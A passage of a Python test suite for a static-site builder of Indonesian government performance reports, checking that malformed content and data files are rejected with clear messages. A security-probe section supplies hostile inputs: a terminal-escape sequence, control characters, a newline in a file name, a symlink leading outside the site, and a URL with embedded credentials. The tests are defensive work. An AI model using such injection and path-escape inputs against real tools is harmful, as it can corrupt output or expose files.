    # a real date in quotes (as NIP and versi are told to be written): YAML keeps it as text (line 5)
    Case("tanggal-dikutip", replace(LAPORAN, "tanggal_terbit: 2024-02-15", 'tanggal_terbit: "2024-02-15"'), LAPORAN,
         5, "terbaca sebagai teks; tulis"),
    # a year option that is no year (lines 31-34 appended: blank, fence, id... the option on line 33): was a traceback
    Case("opsi-tahun-bukan-angka", append(BAB3, "\n```{tabel} perbandingan_tahun\ntahun: [2022, dua]\n```\n"), BAB3, 33,
         "'dua' bukan tahun; tulis tahun sebagai angka"),
    # a chapter whose id is a folder its report version publishes (its page would land among the source data)
    Case("id-bab-folder-data", replace(BAB4, "urutan: 40\n", "urutan: 40\nid: data\n"), BAB4, 6,
         "id bab 'data' tidak dapat dipakai"),
    # the folder the scaffold and the guide keep images in: the chapter's index.html landed among them
    Case("id-bab-folder-gambar", replace(BAB4, "urutan: 40\n", "urutan: 40\nid: gambar\n"), BAB4, 6,
         "id bab 'gambar' tidak dapat dipakai (halamannya akan terbit di dalam folder gambar/ versi laporan); beri "
         "kunci 'id' berisi huruf kecil, angka dan '-' yang bukan nama bagian laporan (sampul, daftar-isi, ...) atau "
         "folder terbitan (aset, data, data-terbuka, gambar), mis. id: lampiran-gambar"),
    # numbers with more digits than any budget, which stopped the build at their rounding (line 12; CSV line 2)
    Case("angka-terlalu-besar", replace(ANGGARAN, "pagu: 100000000", "pagu: 1" + "0" * 30), ANGGARAN, 12,
         "angka terlalu besar (lebih dari 18 digit"),
    Case("csv-angka-terlalu-besar", write(f"{R}/data/penduduk.csv", "desa,penduduk\nA,1" + "0" * 40 + "\n"),
         f"{R}/data/penduduk.csv", 2, "kolom 'penduduk': angka terlalu besar"),
    # printed as written, without a word: a list as a caption (judul, line 13), "tidak" taken as true (lebar, line 14),
    # an image without the text a reader who cannot see it gets (BAB I line 9), a role with nothing after it (line 9)
    Case("judul-berupa-daftar", replace(BAB3, "judul: Capaian indikator kinerja sasaran strategis",
                                        "judul: [Capaian, 2023]"), BAB3, 13, "judul harus satu baris teks"),
    Case("lebar-bukan-boolean", replace(BAB3, "judul: Capaian indikator kinerja sasaran strategis\n",
                                        "judul: Capaian indikator kinerja sasaran strategis\nlebar: tidak\n"), BAB3, 14,
         "opsi 'lebar' harus true atau false, tertulis 'tidak'"),
    Case("gambar-tanpa-teks-pengganti", replace(BAB1, "Tuliskan latar belakang penyusunan laporan.",
                                                "![](gambar/logo.svg)"), BAB1, 9, "gambar tanpa teks pengganti"),
    Case("peran-tanpa-isi", replace(BAB1, "Tuliskan latar belakang penyusunan laporan.", "Capaian {nilai}`` persen."),
         BAB1, 9, "peran {nilai} tanpa isi"),
    # published as the text "[^2]" (BAB I line 9); two headings with one id (line 11, the first on line 9), so a link,
    # the contents and a search result went to the first only
    Case("catatan-kaki-tanpa-isi", replace(BAB1, "Tuliskan latar belakang penyusunan laporan.",
                                           "Jumlah penduduk naik[^2] tahun ini."), BAB1, 9,
         "catatan kaki [^2] belum ada isinya; tulis di bawah paragrafnya satu baris '[^2]: isi catatan'"),
    Case("id-ganda", replace(BAB1, "Tuliskan latar belakang penyusunan laporan.", "## Umum {#a}\n\n## Khusus {#a}"),
         BAB1, 11, "id 'a' sudah dipakai di baris 9 bab ini"),
    Case("id-judul-dipakai-lagi", replace(BAB1, "Tuliskan latar belakang penyusunan laporan.",
                                          "## Dasar Hukum\n\n{#dasar-hukum}\nUndang-undang."), BAB1, 12,
         "id 'dasar-hukum' sudah dipakai di baris 9 bab ini"),
    # a sub-kegiatan row copied, its code kept (line 14, the first on line 10): the site's own check blamed the program
    Case("kode-anggaran-ganda", replace(ANGGARAN, "            realisasi: 95000000\n",
                                        "            realisasi: 95000000\n          - kode: 7.01.02.2.01.0001\n"
                                        "            nama: Salinan\n            pagu: 5000\n            realisasi: 0\n"),
         ANGGARAN, 14, "kode sub kegiatan '7.01.02.2.01.0001' sudah dipakai di baris 10"),
    # an annual report's realisasi for TW I-III only (line 9): taken as the year's (9 of 12 documents: 75 %, "Sedang")
    Case("realisasi-tiga-triwulan", replace(INDIKATOR, "2023: 82.5", "2023: {tw1: 80, tw2: 81, tw3: 82}"), INDIKATOR, 9,
         "IKU1: realisasi 2023 hanya diisi tw1, tw2, tw3, tanpa tw4 dan tanpa realisasi tahunan"),
    # an author's working note (BAB I line 9), published as text where raw HTML is off
    Case("komentar-html", replace(BAB1, "Tuliskan latar belakang penyusunan laporan.",
                                  "Latar belakang. <!-- TODO: angka belum dicek Kabid -->"), BAB1, 9,
         "komentar HTML (<!-- ... -->) akan tampil sebagai teks di halaman"),
    # "BAB IIII" and its "Tabel IIII.1" (line 4)
    Case("bab-romawi-tidak-baku", replace(BAB4, "bab: IV", "bab: IIII"), BAB4, 4,
         "bab 'IIII' bukan angka Romawi yang baku; tulis I, II, III, IV, V, VI"),
    # a computed value where it is shown as written (the title, line 2) or dropped (an image's alt text, line 9)
    Case("nilai-di-judul", replace(BAB1, "judul: Pendahuluan", "judul: Pendahuluan ({nilai}`IKU1.capaian`)"), BAB1, 2,
         "{nilai}`...` tidak dihitung di 'judul' front matter"),
    Case("nilai-di-judul-tabel", replace(BAB3, "judul: Capaian indikator kinerja sasaran strategis",
                                         "judul: Capaian {nilai}`IKU1.capaian` tahun ini"), BAB3, 13,
         "judul tidak dapat memuat {nilai}`…` (judul dicetak apa adanya"),
    Case("nilai-di-teks-gambar", replace(BAB1, "Tuliskan latar belakang penyusunan laporan.",
                                         "![Capaian {nilai}`IKU1.capaian`](gambar/logo.svg)"), BAB1, 9,
         "peran {nilai} atau {ref} di teks pengganti gambar tidak terbaca"),
    # a link to a place nearly named (line 11), {ref} to a heading's own id (a place, not a numbered table), a front
    # matter never closed (line 1: it said "tidak ditemukan")
    Case("tautan-bagian-mirip", replace(BAB1, "Tuliskan latar belakang penyusunan laporan.",
                                        "## Dasar Hukum\n\nLihat [atas](#dasar-hukm)."), BAB1, 11,
         "tautan '#dasar-hukm' menunjuk bagian yang tidak ada di bab ini; mungkin maksudnya 'dasar-hukum'"),
    Case("ref-ke-penanda", replace(BAB1, "Tuliskan latar belakang penyusunan laporan.",
                                   "## Dasar Hukum\n\nLihat {ref}`dasar-hukum`."), BAB1, 11,
         "rujukan {ref}`dasar-hukum` menunjuk tabel atau grafik bernomor, sedangkan 'dasar-hukum' adalah penanda"),
    Case("front-matter-tidak-ditutup", write(f"{R}/50-x.md", "---\njudul: X\njenis: bab\nbab: V\nurutan: 50\n\nIsi.\n"),
         f"{R}/50-x.md", 1, "front matter tidak ditutup: tambahkan baris '---' sesudah kunci terakhir"),
    # a grade not on the indicator's list (line 9): the list as the author wrote it, not as Python prints it
    Case("nilai-kualitatif-asing", chain(
        replace(INDIKATOR, "    polaritas: positif\n", "    polaritas: positif\n    kualitatif: [C, B, BB, A]\n"),
        replace(INDIKATOR, "2023: 80", "2023: BB"), replace(INDIKATOR, "2023: 82.5", "2023: AB")), INDIKATOR, 10,
         "indikator IKU1: nilai 'AB' tidak ada dalam daftar kualitatif (C, B, BB, A)"),
    # the Renstra's structure under every average: a second S1 under another tujuan (line 15; the report's average
    # was the second's alone), one indicator under two sasaran (line 17; counted twice), a target year outside the
    # period (indikator.yaml line 6; taken as the period's final target), a period written backwards (line 1)
    Case("sasaran-ganda", append(RENSTRA, "  - id: T2\n    uraian: Tujuan dua.\n    sasaran:\n      - id: S1\n"
                                          "        uraian: Sasaran dua.\n        indikator: [IKU1]\n"), RENSTRA, 15,
         "id sasaran 'S1' sudah dipakai di baris 9"),
    Case("sasaran-huruf", append(RENSTRA, "  - id: T2\n    uraian: Tujuan dua.\n    sasaran:\n      - id: s1\n"
                                          "        uraian: Sasaran dua.\n        indikator: [IKU1]\n"), RENSTRA, 15,
         "id sasaran 's1' hanya berbeda huruf besar/kecil dengan 'S1' di baris 9"),
    Case("indikator-dua-sasaran", append(RENSTRA, "  - id: T2\n    uraian: Tujuan dua.\n    sasaran:\n      - id: S2\n"
                                                  "        uraian: Sasaran dua.\n        indikator: [IKU1]\n"), RENSTRA,
         17, "indikator IKU1 sudah berada di bawah sasaran S1"),
    Case("target-renstra-luar-periode",
         replace(INDIKATOR, "    target:\n", "    target_renstra: {2030: 99}\n    target:\n"),
         INDIKATOR, 6, "indikator IKU1: target_renstra tahun 2030 di luar periode Renstra 2021–2026"),
    Case("periode-renstra-terbalik", replace(RENSTRA, "periode: {awal: 2021, akhir: 2026}",
                                             "periode: {awal: 2026, akhir: 2021}"), RENSTRA, 1,
         "periode Renstra 2026–2021 terbalik; tulis awal: 2021 dan akhir: 2026"),
    # a jenis belanja written twice (anggaran.yaml line 18, the first on line 15): blamed on the program at a page
    Case("jenis-belanja-ganda", append(ANGGARAN, "jenis_belanja:\n  - jenis: barang_jasa\n    pagu: 50000000\n"
                                                 "    realisasi: 45000000\n  - jenis: barang_jasa\n    pagu: 50000000\n"
                                                 "    realisasi: 50000000\n"), ANGGARAN, 18,
         "jenis belanja 'barang_jasa' sudah ditulis di baris 15"),
    # a jenis belanja figure where the budget has none (BAB I line 9): it said "kode anggaran 'jenis' tidak ada"
    Case("nilai-jenis-belanja-tanpa-data", replace(BAB1, "Tuliskan latar belakang penyusunan laporan.",
                                                   "Belanja {nilai}`anggaran.jenis.pagu`."), BAB1, 9,
         "data anggaran ini tidak memuat rincian jenis belanja; isi 'jenis_belanja' di data/anggaran.yaml"),
    # two chapters "BAB III": both numbered their tables "Tabel 3.1" (BAB IV's bab on line 4)
    Case("bab-ganda", replace(BAB4, "bab: IV", "bab: III"), BAB4, 4,
         "bab: III sudah dipakai oleh content/laporan/contoh-2023/30-bab-3-akuntabilitas-kinerja.md (bab: III)"),
    # a reference to a chapter of another report that does not exist (line 7)
    Case("tautan-laporan-lain", replace(IKHTISAR, "(30-bab-3-akuntabilitas-kinerja.md)", "(../lain-2022/laporan.yaml)"),
         IKHTISAR, 7, "tautan '../lain-2022/laporan.yaml'"),
    # --- invisible control characters, number sizes, names and addresses (the security probe's five problems)
    # IKU1's nama on line 3 with U+2028 (from a PDF) as a YAML escape: the chart failed, blamed on situs.yaml:1
    Case("teks-kendali-u2028", replace(INDIKATOR, "nama: Indeks Kepuasan Masyarakat",
                                       'nama: "Indeks\\u2028Kepuasan Masyarakat"'),
         INDIKATOR, 3, "teks memuat karakter kendali tak terlihat (U+2028, pemisah baris)"),
    # the same character typed as itself in alamat (line 9): YAML read it as a line end, the error two lines on
    Case("teks-kendali-mentah", replace(LAPORAN, "alamat: Jl. Contoh No. 1", "alamat: Jl. Contoh\u2028No. 1"),
         LAPORAN, 9, "teks memuat karakter kendali tak terlihat (U+2028, pemisah baris)"),
    # ESC in the instansi's jenis (line 8): it was printed raw inside warnings (terminal escape injection)
    Case("teks-kendali-esc", replace(LAPORAN, "jenis: kecamatan", 'jenis: "kecamatan\\e[31m"'),
         LAPORAN, 8, "(U+001B, ESC)"),
    # a TAB inside a one-line name (line 3), as a cell copied from a PDF table brings it
    Case("teks-satu-baris-tab", replace(INDIKATOR, "nama: Indeks Kepuasan Masyarakat",
                                        "nama: Indeks\tKepuasan Masyarakat"),
         INDIKATOR, 3, "indikator[1].nama: teks satu baris ini memuat U+0009, TAB"),
    # target 2023 (line 7) of 5000 digits: "galat internal lkjip: ValueError: Exceeds the limit (4300 digits)"
    Case("angka-ribuan-digit", replace(INDIKATOR, "2023: 80", "2023: " + "1" * 5000),
         INDIKATOR, 7, "angka terlalu besar (5000 digit; paling banyak 18 digit sebelum titik desimal)"),
    # a float of 400 digits overflowed to infinity (line 7): "galat internal lkjip: InvalidOperation"
    Case("angka-meluap", replace(INDIKATOR, "2023: 80", "2023: " + "1" * 400 + ".5"),
         INDIKATOR, 7, "angka terlalu besar (lebih dari 18 digit sebelum titik desimal)"),
    # target 1e-28 (line 7): its capaian could not be rounded, "galat internal lkjip: InvalidOperation"
    Case("angka-desimal-terlalu-banyak", replace(INDIKATOR, "2023: 80", "2023: 0.0000000000000000000000000001"),
         INDIKATOR, 7, "angka desimal terlalu banyak (lebih dari 10 angka di belakang titik desimal)"),
    # an image named with a newline: built, archived, and the archive failed verifikasi at once
    Case("nama-berkas-kendali", chain(_copy(f"{R}/gambar/logo.svg", f"{R}/gambar/a\nb.svg"),
                                      append(BAB1, "\n![Logo](gambar/a%0Ab.svg)\n")),
         f"{R}/gambar/a\\nb.svg", 1, "nama berkas atau folder 'gambar/a\\nb.svg' memuat karakter kendali"),
    # the report folder a symbolic link to a folder outside the site: read and published
    Case("laporan-tautan-keluar", _moved_out(R), R, 1, "folder laporan ini tautan (symbolic link) ke luar folder situs"),
    # url_dasar (line 5) with credentials: published on every page
    Case("url-dasar-sandi", replace(SITUS, "url_dasar: https://", "url_dasar: https://admin:rahasia@"), SITUS, 5,
         "url_dasar: alamat ini memuat nama pengguna atau kata sandi"),
    Case("url-dasar-kueri", replace(SITUS, "contoh.go.id/", "contoh.go.id/?ref=a/"), SITUS, 5,
         "url_dasar: alamat dasar tidak boleh memuat '?' atau '#'"),
    # Written on Windows or macOS, built on Linux: BAB I line 9 shows gambar/peta.png, the file is gambar/Peta.PNG (the
    # author's system opened it; the server's said "tidak ditemukan" of a file that is there)
    Case("gambar-huruf-beda", chain(write(f"{R}/gambar/Peta.PNG", "x"),
                                    replace(BAB1, "Tuliskan latar belakang penyusunan laporan.",
                                            "Lihat ![Peta wilayah](gambar/peta.png).")),
         BAB1, 9, "gambar 'gambar/peta.png': nama berkas yang ada 'gambar/Peta.PNG' (huruf besar/kecil berbeda)"),
    # BAB I line 9: a path written with Windows' backslash
    Case("gambar-garis-miring-terbalik", replace(BAB1, "Tuliskan latar belakang penyusunan laporan.",
                                                 "Lihat ![Logo](gambar\\logo.svg)."),
         BAB1, 9, "memakai garis miring terbalik '\\'; tulis garis miring '/', mis. 'gambar/logo.svg'"),
    # laporan.yaml line 10: the logo in other letter case
    Case("logo-huruf-beda", replace(LAPORAN, "logo: gambar/logo.svg", "logo: gambar/Logo.svg"), LAPORAN, 10,
         "logo 'gambar/Logo.svg': nama berkas yang ada 'gambar/logo.svg' (huruf besar/kecil berbeda)"),
    # the ikhtisar's link on line 7 to BAB III in other letter case
    Case("tautan-huruf-beda", replace(IKHTISAR, "(30-bab-3-akuntabilitas-kinerja.md)",
                                      "(30-Bab-3-Akuntabilitas-Kinerja.md)"),
         IKHTISAR, 7, "nama berkas yang ada '30-bab-3-akuntabilitas-kinerja.md' (huruf besar/kecil berbeda)"),
    # BAB IV and the PK saved by Notepad as "Unicode" (UTF-16): said as such, not as 'ÿþ-' and invisible characters
    Case("bab-utf16", lambda root: (root / BAB4).write_text((root / BAB4).read_text(encoding="utf-8"),
                                                            encoding="utf-16"),
         BAB4, 1, "berkas bukan teks UTF-8 (berkas disimpan sebagai UTF-16: pilihan 'Unicode' di Notepad"),
    Case("data-utf16", lambda root: (root / PK).write_text((root / PK).read_text(encoding="utf-8"), encoding="utf-16"),
         PK, 1, "berkas disimpan sebagai UTF-16"),
]


def _state(root: Path) -> tuple[dict[str, str], list[str]]:
    """The build tree's hashes and the names next to it (a leftover staging folder would show up here)."""
    return tree_hashes(root / "build"), sorted(p.name for p in root.iterdir())


def _assert_clean_failure(err: str, case_file: str, case_line: int, says: str) -> None:
    assert "Traceback" not in err
    lines = [line for line in err.splitlines() if line.strip()]
    assert lines, "tidak ada pesan sama sekali"
    for line in lines:
        assert _ALLOWED_LINE.match(line), f"baris stderr bukan diagnostik berbahasa Indonesia: {line!r}"
        message = line.split(": ", 2)[-1]
        assert not _ENGLISH.search(message), f"pesan berbahasa Inggris: {line!r}"
    prefix = f"{case_file}:{case_line}: galat: "
    hits = [line for line in lines if line.startswith(prefix)]
    assert hits, f"tidak ada baris '{prefix}...' di:\n{err}"
    assert any(says in h for h in hits), f"{says!r} tidak ada di {hits}"


# A table option naming something that does not exist is reported at the option's own line (14), not the fence (11).
TABLE_OPTION_CASE = Case("opsi-tabel-sasaran-asing",
                         replace(BAB3, "judul: Capaian indikator kinerja sasaran strategis\n",
                                 "judul: Capaian indikator kinerja sasaran strategis\nsasaran: [S9]\n"),
                         BAB3, 14, "sasaran 'S9' tidak ada")
PARAMS = [pytest.param(c, id=c.id) for c in [*CASES, TABLE_OPTION_CASE]]


@pytest.mark.parametrize("case", PARAMS)
def test_broken_input_is_rejected_and_build_kept(project: Path, case: Case, capsys: pytest.CaptureFixture[str]) -> None:
    before = _state(project)
    capsys.readouterr()
    case.apply(project)
    code = main(["build", "--situs", str(project), "--no-pdf"])
    out, err = capsys.readouterr()
    assert code == 1, f"kode keluar {code}; stderr:\n{err}"
    _assert_clean_failure(err, case.file, case.line, case.says)
    assert _state(project) == before



def test_a_refused_release_in_a_site_never_built_says_no_build_was_made(fresh_project: Path,
                                                                       capsys: pytest.CaptureFixture[str]) -> None:
    """A webmaster's first 'lkjip terbitkan' in a fresh site, refused for the scaffold's sample values, ended
    "hasil build sebelumnya tetap utuh" beside a site never built: it says the folder is not there and was not made."""
    capsys.readouterr()
    assert main(["terbitkan", "contoh-2023", "--situs", str(fresh_project), "--no-pdf"]) == 1
    err = capsys.readouterr().err
    assert err.endswith("\nTidak ada berkas yang ditulis; folder build/ belum ada dan tidak dibuat.\n"), err
    assert not (fresh_project / "build").exists()


def test_a_refused_build_names_the_earlier_build_it_kept(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """After a build, a refused one says the earlier build is kept, and where (``--output`` may put it elsewhere)."""
    replace(LAPORAN, "periode: tahunan", "periode: tahun")(project)
    capsys.readouterr()
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 1
    err = capsys.readouterr().err
    assert err.endswith("\nTidak ada berkas yang ditulis; hasil build sebelumnya di build/ tetap utuh.\n"), err


def test_distinct_cases() -> None:
    """The issue asks for at least 20 (the brief for 25) distinct breakages."""
    assert len({c.id for c in CASES}) == len(CASES) >= 25
    assert len({(c.file, c.line, c.says) for c in CASES}) == len(CASES)


# ------------------------------------------------------------------------------------------------ subprocess


def _run(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "lkjip_site", *args], cwd=root, capture_output=True,
                          text=True, timeout=120)


@pytest.mark.parametrize("case", [c for c in CASES if c.id in ("yaml-tab", "tanggal-mustahil", "gambar-keluar-folder")],
                         ids=lambda c: c.id)
def test_real_process_has_no_traceback(project: Path, case: Case) -> None:
    """The real command, in its own process: stderr is what an author sees in the terminal."""
    before = _state(project)
    case.apply(project)
    proc = _run(project, "build", "--no-pdf")
    assert proc.returncode == 1, proc.stderr
    _assert_clean_failure(proc.stderr, case.file, case.line, case.says)
    assert _state(project) == before


# ------------------------------------------------------------------------------------------------ warnings, strict


# An optional key written without a value is not written (the schema says so); the loaders read it as None and
# stopped with "galat internal": each key below, left empty by an author, was one such (found by blanking every
# value of the bundled examples in turn).
EMPTY_VALUES = [
    pytest.param(replace(LAPORAN, "  alamat: Jl. Contoh No. 1\n", "  alamat: Jl. Contoh No. 1\n  pemda:\n"),
                 "", id="pemda"),
    pytest.param(replace(INDIKATOR, "      2023: 82.5", "      2023: {tw1: null, tw2: null}"),
                 f"{INDIKATOR}:9: peringatan: IKU1: realisasi 2023 belum diisi", id="triwulan"),
    pytest.param(replace(INDIKATOR, "      2023: 82.5", "      2023: {tahunan: ~}"),
                 f"{INDIKATOR}:9: peringatan: IKU1: realisasi 2023 belum diisi", id="tahunan"),
    pytest.param(replace(INDIKATOR, "    target:\n", "    target_renstra:\n    target:\n"), "", id="target-renstra"),
    pytest.param(replace(ANGGARAN, "            realisasi: ", "            realisasi_tw:\n            realisasi: "), "",
                 id="realisasi-tw"),
    pytest.param(replace(PK, "program: [7.01.02]", "program:"), "", id="pk-program"),
    pytest.param(replace(RENSTRA, "indikator: [IKU1]", "indikator:"), "", id="renstra-indikator"),
]


@pytest.mark.parametrize(("breakage", "says"), EMPTY_VALUES)
def test_an_optional_value_left_empty_is_read_as_not_written(project: Path, capsys: pytest.CaptureFixture[str],
                                                             breakage: Callable[[Path], None], says: str) -> None:
    breakage(project)
    capsys.readouterr()
    code = main(["check", "--situs", str(project)])
    out, err = capsys.readouterr()
    assert code in (0, 1) and "galat internal" not in out + err, out + err
    for line in err.splitlines():
        assert _ALLOWED_LINE.match(line), line
    assert says in out + err


def test_unknown_key_is_warning_then_error_with_strict(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    append(LAPORAN, "warna_sampul: merah\n")(project)  # line 19
    before = _state(project)
    capsys.readouterr()
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 0
    _out, err = capsys.readouterr()
    assert f"{LAPORAN}:19: peringatan: kunci 'warna_sampul' tidak dikenal" in err
    after_ok = _state(project)
    assert after_ok[1] == before[1]

    assert main(["build", "--situs", str(project), "--no-pdf", "--strict"]) == 1
    _out, err = capsys.readouterr()
    _assert_clean_failure(err, LAPORAN, 19, "kunci 'warna_sampul' tidak dikenal")
    assert _state(project) == after_ok


def test_a_footnote_never_referred_to_is_a_warning_then_an_error_with_strict(
        project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Its text was left out of the page and the PDF without a word."""
    append(BAB1, "\n[^sumber]: BPS Kabupaten, 2024.\n")(project)
    line = (project / BAB1).read_text(encoding="utf-8").splitlines().index("[^sumber]: BPS Kabupaten, 2024.") + 1
    says = "catatan kaki [^sumber] tidak dirujuk di teks, jadi tidak tampil"
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 0
    assert f"{BAB1}:{line}: peringatan: {says}" in capsys.readouterr().err
    assert main(["build", "--situs", str(project), "--no-pdf", "--strict"]) == 1
    err = capsys.readouterr()[1]
    _assert_clean_failure(err, BAB1, line, says)
    # said at once with the warnings of the report's files, which are checked before its chapters are read (the
    # scaffold's sample head): promoted there, they stopped the run before the chapters said theirs
    assert f"{R}/laporan.yaml:12: galat: instansi.kepala.nama: 'Nama Kepala, S.Sos' masih isian contoh" in err
    assert main(["check", "--situs", str(project), "--strict"]) == 1
    err = capsys.readouterr()[1]
    assert f"{BAB1}:{line}: galat: {says}" in err and f"{R}/laporan.yaml:12: galat: " in err


@pytest.mark.parametrize(("csv", "says"), [
    ("desa,penduduk,miskin (%)\nA,1200,12.5\nB,800,9.75\n",
     "kolom 'miskin (%)' pada data 'desa' berupa persentase, rasio, nilai atau rata-rata, yang tidak bermakna bila "
     "dijumlahkan; sebutkan kolom yang dijumlahkan dengan opsi kolom, mis. kolom: [penduduk]"),
    ("desa,rasio guru murid\nA,0.05\nB,0.04\n", "tulis kolom: [] agar tabel tidak memuat baris Jumlah")])
def test_a_dataset_table_does_not_add_up_percentages_unless_told_which_columns_to_add(
        project: Path, capsys: pytest.CaptureFixture[str], csv: str, says: str) -> None:
    """Every number column was added up: a Jumlah row of 22,25 % (and row totals adding people to percentages) was
    published; naming the columns to add (``kolom``) publishes the table."""
    write(f"{R}/data/desa.csv", csv)(project)
    line = len((project / BAB1).read_text(encoding="utf-8").splitlines()) + 2
    append(BAB1, "\n```{tabel} dataset\nid: tabel-desa\njudul: Desa\ndataset: desa\n```\n")(project)
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 1
    _assert_clean_failure(capsys.readouterr()[1], BAB1, line, says)
    amounts = "[penduduk]" if "penduduk" in csv else "[]"
    replace(BAB1, "dataset: desa\n", f"dataset: desa\nkolom: {amounts}\n")(project)
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 0


def test_a_bab_out_of_order_is_a_warning_at_its_urutan(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A typo in ``urutan`` put BAB III after BAB IV in the contents, without a word."""
    replace(BAB3, "urutan: 30", "urutan: 45")(project)
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 0
    assert (f"{BAB3}:5: peringatan: BAB III (urutan 45) tampil sesudah BAB IV (urutan 40, {BAB4}); periksa 'urutan' "
            "kedua bab") in capsys.readouterr().err


@pytest.mark.parametrize(("per", "says"), [
    ("", "tidak ada indikator yang memiliki capaian kinerja dan serapan anggaran sekaligus; isi kunci 'program' "
         "(kode program anggaran) pada indikator di data/indikator.yaml, atau, bila program di data/anggaran.yaml "
         "sudah memiliki 'sasaran', gunakan opsi 'per: sasaran'"),
    ("per: sasaran\n", "tidak ada sasaran yang memiliki capaian kinerja dan serapan anggaran sekaligus; isi kunci "
                       "'sasaran' pada program di data/anggaran.yaml")])
def test_an_empty_efficiency_table_says_what_its_rows_are_made_of(project: Path, capsys: pytest.CaptureFixture[str],
                                                                  per: str, says: str) -> None:
    """It told an author whose programs had their 'sasaran' to fill it in (that serves 'per: sasaran' only)."""
    if per:
        replace(ANGGARAN, "    sasaran: S1\n", "")(project)
    line = len((project / BAB4).read_text(encoding="utf-8").splitlines()) + 2
    append(BAB4, f"\n```{{tabel}} efisiensi\nid: ef\njudul: Efisiensi\n{per}```\n")(project)
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 1
    assert f"{BAB4}:{line}: galat: tabel efisiensi: {says}" in capsys.readouterr().err


def test_a_grade_in_other_letters_is_the_grade_as_the_guide_says(project: Path) -> None:
    """"huruf besar-kecil diabaikan": capaian read 'bb' as BB, the check refused it."""
    replace(INDIKATOR, "    polaritas: positif\n", "    polaritas: positif\n    kualitatif: [C, B, BB, A]\n")(project)
    replace(INDIKATOR, "2023: 80", "2023: BB")(project)
    replace(INDIKATOR, "2023: 82.5", "2023: bb")(project)
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 0


@pytest.mark.parametrize(("rel", "text", "says"), [
    # a second title on the chapter's page, outside its contents: the chapter's title is its front matter's
    (BAB1, "\n# Latar Belakang\n", "judul '#' dipakai untuk judul bab (diambil dari 'judul' di front matter); tulis "
                                    "bagian bab dengan '##' atau '###'"),
    # this year's lines were warned of it; last year's totals, whose change is published, passed
    (ANGGARAN, "tahun_lalu: {pagu: 100, realisasi: 500}\n",
     "realisasi tahun lalu Rp 500 melebihi pagu tahun lalu Rp 100"),
    # a Markdown table row with a cell less than its header: shown empty, and nothing said
    (BAB1, "\n| Desa | Penduduk |\n|---|---|\n| A \\| B | 1 |\n| C |\n",
     "baris tabel ini memiliki 1 sel, sedangkan baris judulnya 2 kolom; sel yang kurang tampil kosong")],
    ids=["judul-pagar", "tahun-lalu-lebih", "tabel-md-sel-kurang"])
def test_a_line_that_builds_with_a_warning_is_said_at_it(project: Path, capsys: pytest.CaptureFixture[str], rel: str,
                                                          text: str, says: str) -> None:
    append(rel, text)(project)
    line = len((project / rel).read_text(encoding="utf-8").splitlines())
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 0
    assert f"{rel}:{line}: peringatan: {says}" in capsys.readouterr().err


def test_a_rupiah_with_a_thousands_dot_is_said_for_that_value_only(project: Path,
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    """Two amounts on one line (a flow mapping): the one written ``1.250`` is refused, not its neighbour (the note of
    such numbers was kept by line alone, so ``tw2: 3000`` was said to be '1.250' too)."""
    replace(ANGGARAN, "            realisasi: 95000000\n",
            "            realisasi: 95000000\n            realisasi_tw: {tw1: 1.250, tw2: 3000}\n")(project)
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 1
    said = [line for line in capsys.readouterr().err.splitlines() if "'1.250'" in line]
    assert len(said) == 1 and said[0].startswith(f"{ANGGARAN}:14: galat: ") and ".realisasi_tw.tw1: '1.250'" in said[0]


def test_unknown_data_file_is_warning_and_not_published(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A working note left in data/ is "ignored", so it is not published either (it was offered as open data)."""
    write(f"{R}/data/catatan.txt", "bukan data\n")(project)
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 0
    assert (f"{R}/data/catatan.txt:1: peringatan: berkas data 'catatan.txt' tidak dikenal dan diabaikan; berkas ini "
            "tidak ikut diterbitkan, dan 'lkjip terbitkan' menolak laporan selama berkas ini ada di foldernya") \
        in capsys.readouterr().err
    assert not list((project / "build").rglob("catatan.txt"))
    assert not any(b"catatan.txt" in p.read_bytes() for p in (project / "build").rglob("*.html"))


def test_unreadable_file_is_named_not_internal_error(project: Path, capsys: pytest.CaptureFixture[str],
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """A data file the build's user may not read (copied again, without read permission): an error at that file that
    says what to do, not ``galat internal``, and the build after the mend publishes. (The tests run as root, who
    reads every file: the system's refusal is imitated.)"""
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 0  # recorded: the same inputs would replay it
    before = _state(project)
    pk = (project / PK).resolve()
    os.utime(pk, ns=(pk.stat().st_atime_ns, pk.stat().st_mtime_ns + 10**9))  # copied: a new time, the same bytes
    real = Path.read_bytes

    def refused(self: Path) -> bytes:
        if self.resolve() == pk:
            raise PermissionError(13, "Permission denied", str(self))
        return real(self)

    with monkeypatch.context() as patched:
        patched.setattr(Path, "read_bytes", refused)
        capsys.readouterr()
        assert main(["build", "--situs", str(project), "--no-pdf"]) == 1
        _assert_clean_failure(capsys.readouterr().err, PK, 1, "tidak punya izin membacanya")
        assert _state(project) == before
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 0


def test_editors_hidden_and_lock_files_beside_the_chapters_are_not_chapters(project: Path,
                                                                          capsys: pytest.CaptureFixture[str]) -> None:
    """Emacs keeps ``.#bab.md``, a link to nothing, while a chapter is open; macOS writes ``._bab.md`` on a USB
    stick: neither is a chapter, nor stops the build."""
    symlink(f"{R}/.#40-bab-4-penutup.md", "/tidak/ada.md")(project)
    (project / R / "._40-bab-4-penutup.md").write_bytes(b"\x00\x05\x16\x07 bukan teks")
    assert main(["build", "--situs", str(project), "--no-pdf"]) == 0
    err = capsys.readouterr().err
    assert ": galat: " not in err and ".#40" not in err and "._40" not in err  # (the scaffold's own warnings only)


def test_link_to_nothing_is_not_hidden_by_the_build_record(project: Path,
